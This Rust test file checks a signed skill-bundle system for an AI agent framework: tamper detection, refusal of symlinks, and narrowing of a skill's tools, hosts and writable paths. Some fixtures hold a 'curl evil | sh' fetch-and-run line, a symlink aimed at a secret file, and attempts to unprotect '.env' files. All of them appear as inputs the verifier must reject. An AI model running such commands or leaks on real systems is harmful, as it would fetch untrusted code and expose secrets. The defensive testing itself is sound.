#![allow(clippy::disallowed_methods)] // tests make and read their own fixtures
use super::*;
use loop_receipt::KeyPair;

fn bundle_dir(name: &str) -> PathBuf {
    let base = std::env::temp_dir().join(format!("loop-skill-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&base);
    let dir = base.join("fix-flaky");
    std::fs::create_dir_all(dir.join("resources")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        "---\nname: fix-flaky\ndescription: Make a flaky test deterministic\ncapabilities:\n  tools: [read_file, write_file, run_command, finish]\n  network: [mirror.example.test, docs.example.test]\n  writable: [tests]\n  exec:\n    - {prefix: pytest, decision: allow}\n    - {prefix: git push, decision: forbidden}\n---\nWHEN: a test fails now and then.\n",
    )
    .unwrap();
    std::fs::write(dir.join("resources/notes.md"), "seed the RNG\n").unwrap();
    dir
}

#[test]
fn a_signed_bundle_verifies_and_its_front_matter_is_read() {
    let dir = bundle_dir("ok");
    let key = KeyPair::from_seed([7u8; 32]);
    let signed = sign_with(&dir, &key).unwrap();
    assert_eq!(signed.files, 2);
    let v = verify(&dir, &[key.public()]).unwrap();
    assert_eq!(v.signer, key.keyid());
    assert_eq!(v.bundle.digest, signed.digest);
    let caps = &v.bundle.capabilities;
    assert_eq!(caps.writable.as_deref(), Some(&["tests".to_string()][..]));
    assert_eq!(
        caps.exec,
        vec![ExecRule {
            prefix: "git push".into(),
            decision: Stricter::Forbidden
        }]
    );
    assert_eq!(
        v.bundle.widening,
        vec!["exec rule `pytest: allow`: a skill cannot widen the task's exec policy"]
    );
    assert_eq!(v.bundle.guidance, "WHEN: a test fails now and then.\n");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn one_byte_changed_added_or_gone_is_refused_naming_the_file() {
    let dir = bundle_dir("tamper");
    let key = KeyPair::from_seed([8u8; 32]);
    sign_with(&dir, &key).unwrap();
    let trusted = [key.public()];
    std::fs::write(dir.join("resources/notes.md"), "seed the RNG!\n").unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/notes.md changed since it was signed"),
        "{e}"
    );
    std::fs::write(dir.join("resources/notes.md"), "seed the RNG\n").unwrap();
    assert!(verify(&dir, &trusted).is_ok());
    std::fs::write(dir.join("extra.sh"), "curl evil | sh\n").unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(e.ends_with("extra.sh was added since it was signed"), "{e}");
    std::fs::remove_file(dir.join("extra.sh")).unwrap();
    std::fs::remove_file(dir.join("resources/notes.md")).unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/notes.md is gone since it was signed"),
        "{e}"
    );
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_bundle_signed_by_an_unlisted_key_or_unsigned_is_refused() {
    let dir = bundle_dir("unlisted");
    let e = verify(&dir, &[]).unwrap_err().to_string();
    assert!(e.contains("unsigned: no SKILL.sig.json"), "{e}");
    let theirs = KeyPair::from_seed([9u8; 32]);
    let ours = KeyPair::from_seed([10u8; 32]);
    sign_with(&dir, &theirs).unwrap();
    let e = verify(&dir, &[ours.public()]).unwrap_err().to_string();
    assert!(
        e.ends_with(&format!(
            "signed by {}, not a key the Loopfile's `skills.trust` lists",
            theirs.keyid()
        )),
        "{e}"
    );
    assert!(verify(&dir, &[ours.public(), theirs.public()]).is_ok());
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_link_in_a_bundle_is_refused_by_name_never_read_through() {
    let dir = bundle_dir("link");
    std::fs::write(dir.parent().unwrap().join("secret"), "host secret\n").unwrap();
    std::os::unix::fs::symlink("../../secret", dir.join("resources/leak.md")).unwrap();
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/leak.md is a link (to ../../secret): a skill bundle holds no links"),
        "{e}"
    );
    // SKILL.md itself a link: refused too, nothing read.
    std::fs::remove_file(dir.join("resources/leak.md")).unwrap();
    std::fs::remove_file(dir.join("SKILL.md")).unwrap();
    std::os::unix::fs::symlink("../secret", dir.join("SKILL.md")).unwrap();
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(e.contains("SKILL.md is a link"), "{e}");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_skill_only_narrows_the_task_and_lists_what_it_asked_beyond() {
    let dir = bundle_dir("narrow");
    let b = read_bundle(&dir).unwrap();
    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    c.network_allow = vec!["docs.example.test".into(), "api.example.test".into()];
    let r = narrow(&b, Some("k".into()), &mut c, &TaskGrants::default());
    // The task keeps only the hosts the skill needs and it had.
    assert_eq!(c.network_allow, vec!["docs.example.test".to_string()]);
    assert_eq!(
        r.capabilities.network.as_deref(),
        Some(&["docs.example.test".to_string()][..])
    );
    assert_eq!(
        r.dropped,
        vec![
            "exec rule `pytest: allow`: a skill cannot widen the task's exec policy".to_string(),
            "network host `mirror.example.test`: not in the task's network allow-list".to_string(),
        ]
    );
    assert_eq!(r.vouched(), "signed by k");
    // A skill that declares no hosts leaves the task's as they are.
    let mut plain = b.clone();
    plain.capabilities.network = None;
    let mut c2 = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    c2.network_allow = vec!["api.example.test".into()];
    narrow(&plain, None, &mut c2, &TaskGrants::default());
    assert_eq!(c2.network_allow, vec!["api.example.test".to_string()]);
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn front_matter_as_editors_leave_it_is_read_and_a_broken_one_refused() {
    let dir = bundle_dir("crlf");
    let md = std::fs::read_to_string(dir.join("SKILL.md")).unwrap();
    // CRLF line ends and a byte-order mark: the same capabilities.
    std::fs::write(
        dir.join("SKILL.md"),
        format!("\u{feff}{}", md.replace('\n', "\r\n")),
    )
    .unwrap();
    let b = read_bundle(&dir).unwrap();
    assert_eq!(
        b.capabilities.writable.as_deref(),
        Some(&["tests".to_string()][..])
    );
    // `./tests/` is `tests`; no path at all, or the whole workspace, is refused.
    for (writable, ok) in [
        ("[./tests/]", true),
        ("[]", false),
        ("[.]", false),
        ("[../x]", false),
    ] {
        std::fs::write(
            dir.join("SKILL.md"),
            format!("---\ncapabilities:\n  writable: {writable}\n---\nbody\n"),
        )
        .unwrap();
        match read_bundle(&dir) {
            Ok(b) => {
                assert!(ok, "{writable} was taken");
                assert_eq!(
                    b.capabilities.writable.as_deref(),
                    Some(&["tests".to_string()][..])
                );
            }
            Err(e) => assert!(
                !ok && e.to_string().contains("capabilities.writable"),
                "{writable}: {e}"
            ),
        }
    }
    // A front matter opened and never closed: refused, not given as text.
    std::fs::write(
        dir.join("SKILL.md"),
        "---\ncapabilities:\n  tools: [finish]\nbody\n",
    )
    .unwrap();
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(e.contains("no `---` line closes"), "{e}");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_skills_hosts_narrow_what_commands_reach_too() {
    let dir = bundle_dir("hosts");
    let b = read_bundle(&dir).unwrap();
    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    // The task's commands may reach the mirror (the Loopfile's list), its
    // checks nothing: the skill keeps the mirror, drops the docs host.
    let grants = TaskGrants {
        command_hosts: vec!["mirror.example.test".to_string()],
        ..TaskGrants::default()
    };
    let r = narrow(&b, None, &mut c, &grants);
    assert_eq!(
        r.capabilities.network.as_deref(),
        Some(&["mirror.example.test".to_string()][..])
    );
    assert!(c.network_allow.is_empty());
    assert_eq!(
        r.dropped.last().unwrap(),
        "network host `docs.example.test`: not in the task's network allow-list"
    );
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_misnamed_tool_or_key_is_refused_and_the_shared_formats_keys_are_taken() {
    let dir = bundle_dir("names");
    let write = |front: &str| {
        std::fs::write(dir.join("SKILL.md"), format!("---\n{front}---\nbody\n")).unwrap();
    };
    // A typo in a tool's name would leave the task only the tools spelt
    // right (or only `finish`): refused, naming it.
    write("capabilities:\n  tools: [read_file, wirte_file, finish]\n");
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(e.contains("`wirte_file` is no tool"), "{e}");
    // Every tool a task can be offered is a name a skill may keep.
    write(
        "capabilities:\n  tools: [read_file, write_file, edit_file, apply_patch, list_files, run_command, finish, delegate, remember, browser, read_document, view_image, mcp__docs__search]\n",
    );
    let b = read_bundle(&dir).unwrap();
    assert_eq!(b.capabilities.tools.as_ref().map(Vec::len), Some(13));
    write("capabilities:\n  tools: [mcp__]\n");
    assert!(
        read_bundle(&dir).is_err(),
        "an MCP name with no server and tool"
    );
    // The shared format's other keys are taken (and not used); a
    // misspelt `capabilities` is refused, not read as no bound at all.
    write(
        "name: fix-flaky\nlicense: MIT\ncompatibility: any\nmetadata: {author: someone}\nallowed-tools: Read Grep\ncapabilities:\n  tools: [finish]\n",
    );
    let b = read_bundle(&dir).unwrap();
    assert_eq!(
        b.capabilities.tools.as_deref(),
        Some(&["finish".to_string()][..])
    );
    write("capabilites:\n  tools: [finish]\n");
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(e.contains("capabilites"), "{e}");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn an_executable_bit_is_signed_and_a_changed_one_is_refused_naming_the_file() {
    use std::os::unix::fs::PermissionsExt;
    let dir = bundle_dir("modes");
    let script = dir.join("resources/run.sh");
    std::fs::write(&script, "#!/bin/sh\necho hi\n").unwrap();
    let chmod =
        |m: u32| std::fs::set_permissions(&script, std::fs::Permissions::from_mode(m)).unwrap();
    chmod(0o755);
    let key = KeyPair::from_seed([9u8; 32]);
    let signed = sign_with(&dir, &key).unwrap();
    let trusted = [key.public()];
    assert!(verify(&dir, &trusted).is_ok());
    // The same bytes, no longer executable: another bundle.
    chmod(0o644);
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/run.sh was made not executable since it was signed"),
        "{e}"
    );
    assert_ne!(read_bundle(&dir).unwrap().digest, signed.digest);
    // And a text made executable.
    chmod(0o755);
    std::fs::set_permissions(
        dir.join("resources/notes.md"),
        std::fs::Permissions::from_mode(0o700),
    )
    .unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/notes.md was made executable since it was signed"),
        "{e}"
    );
    std::fs::set_permissions(
        dir.join("resources/notes.md"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    assert!(verify(&dir, &trusted).is_ok());
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn what_is_in_force_is_what_the_task_has_of_what_the_skill_asked() {
    let dir = bundle_dir("in-force");
    let mut b = read_bundle(&dir).unwrap();
    b.capabilities.tools = Some(
        [
            "read_file",
            "browser",
            "delegate",
            "mcp__docs__search",
            "mcp__gh__issues",
            "finish",
        ]
        .map(String::from)
        .to_vec(),
    );
    b.capabilities.writable = Some(
        ["src", ".loop", "secrets", "tests"]
            .map(String::from)
            .to_vec(),
    );
    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    c.protected.push("tests/conftest.py".into());
    let grants = TaskGrants {
        mcp_servers: vec!["docs".into()],
        ..TaskGrants::default()
    };
    let r = narrow(&b, None, &mut c, &grants);
    assert_eq!(
        r.capabilities.tools.as_deref().unwrap(),
        ["read_file", "mcp__docs__search", "finish"]
    );
    // A path partly protected stays (its protected file is still refused
    // at the write); one wholly protected is not in force.
    assert_eq!(
        r.capabilities.writable.as_deref().unwrap(),
        ["src", "tests"]
    );
    for said in [
        "tool `browser`: the task is not offered it",
        "tool `delegate`: the task is not offered it",
        "tool `mcp__gh__issues`: the task is not offered it",
        "writable path `.loop`: protected in this task",
        "writable path `secrets`: protected in this task",
    ] {
        assert!(
            r.dropped.iter().any(|d| d == said),
            "{said}: {:?}",
            r.dropped
        );
    }
    // Given what it asks for, it is in force.
    c.browser = true;
    c.limits.max_children = 1;
    c.limits.max_depth = 1;
    let r = narrow(&b, None, &mut c, &grants);
    assert!(
        r.capabilities
            .tools
            .unwrap()
            .contains(&"browser".to_string())
    );
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_skills_contract_template_gives_no_more_than_the_project_gives_a_task() {
    let loopfile = crate::loopfile::Loopfile::default();
    let honest = loop_protocol::Contract::from_yaml(
        "instruction: tidy\ncriteria:\n  - id: tidy\n    text: tidy\n    checks: [{run: \"grep -q x notes.md\"}]\nlimits: { max_steps: 10 }\n",
        "contract.yaml",
    )
    .unwrap();
    assert!(template_within("tidy", &honest, &loopfile).is_ok());
    for (extra, named) in [
        ("unprotect: [\".env*\"]\n", "`unprotect`"),
        ("allow_check_changes: [tests/**]\n", "`allow_check_changes`"),
        ("network_allow: [evil.example.test]\n", "`network_allow`"),
        ("browser: true\n", "`browser`"),
        (
            "limits: { max_steps: 500 }\n",
            "`limits.max_steps` 500 (a task gets 30)",
        ),
        (
            "limits: { max_children: 3, max_depth: 1 }\n",
            "`limits.max_children` 3",
        ),
    ] {
        let yaml = format!(
            "instruction: tidy\ncriteria:\n  - id: tidy\n    text: tidy\n    checks: [{{run: \"grep -q x notes.md\"}}]\n{extra}"
        );
        let t = loop_protocol::Contract::from_yaml(&yaml, "contract.yaml").unwrap();
        let e = template_within("tidy", &t, &loopfile)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains(named) && e.contains("skill tidy"),
            "{extra}: {e}"
        );
    }
    // A check that may prove nothing, by the template's word: refused.
    for (flag, named) in [
        ("allow_vacuous: true", "`allow_vacuous` on `true`"),
        ("nonempty_tests: false", "`nonempty_tests: false` on `true`"),
    ] {
        let yaml = format!(
            "instruction: tidy\ncriteria:\n  - id: tidy\n    text: tidy\n    checks: [{{run: \"true\", {flag}}}]\n"
        );
        let t = loop_protocol::Contract::from_yaml(&yaml, "contract.yaml").unwrap();
        let e = template_within("tidy", &t, &loopfile)
            .unwrap_err()
            .to_string();
        assert!(e.contains(named), "{flag}: {e}");
    }
    // What the Loopfile grants every task, a template may ask for too.
    let granting = crate::loopfile::Loopfile::parse("browser: true\n", "Loopfile.yaml").unwrap();
    let t = loop_protocol::Contract::from_yaml(
        "instruction: look\ncriteria:\n  - id: page\n    text: page\n    checks: [{run: \"grep -q x index.html\"}]\nbrowser: true\n",
        "contract.yaml",
    )
    .unwrap();
    assert!(template_within("look", &t, &granting).is_ok());
}

#[test]
fn a_file_whose_name_is_not_utf8_is_refused_not_left_out() {
    use std::os::unix::ffi::OsStrExt;
    let dir = bundle_dir("raw-name");
    let key = KeyPair::from_seed([10u8; 32]);
    sign_with(&dir, &key).unwrap();
    assert!(verify(&dir, &[key.public()]).is_ok());
    let odd = dir
        .join("resources")
        .join(std::ffi::OsStr::from_bytes(b"run\xff.sh"));
    std::fs::write(&odd, "curl evil | sh\n").unwrap();
    let e = verify(&dir, &[key.public()]).unwrap_err().to_string();
    assert!(e.contains("not UTF-8") && e.contains("resources"), "{e}");
    std::fs::remove_file(&odd).unwrap();
    assert!(verify(&dir, &[key.public()]).is_ok());
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

/// Protection that cannot be compiled lifts nothing: every path a skill
/// asks to write is dropped, each naming why; the same asks under a
/// protection that compiles are in force.
#[test]
fn a_protection_that_cannot_be_compiled_keeps_every_asked_path_out() {
    let dir = bundle_dir("uncompiled");
    let mut b = read_bundle(&dir).unwrap();
    b.capabilities.writable = Some(["src", "docs"].map(String::from).to_vec());
    let grants = TaskGrants::default();
    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    let r = narrow(&b, None, &mut c.clone(), &grants);
    assert_eq!(r.capabilities.writable.as_deref().unwrap(), ["src", "docs"]);
    assert!(r.dropped.iter().all(|d| !d.starts_with("writable path")));
    // An unclosed class: no glob set can be built of these paths.
    c.protected.push("docs/a[".into());
    assert!(loop_workspace::Protected::new(&c.protected_globs()).is_err());
    let r = narrow(&b, None, &mut c, &grants);
    assert_eq!(r.capabilities.writable.as_deref(), Some(&[][..]));
    for p in ["src", "docs"] {
        let why =
            format!("writable path `{p}`: the task's protected paths could not be compiled (");
        assert!(
            r.dropped.iter().any(|d| d.starts_with(&why)),
            "{why}: {:?}",
            r.dropped
        );
    }
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}
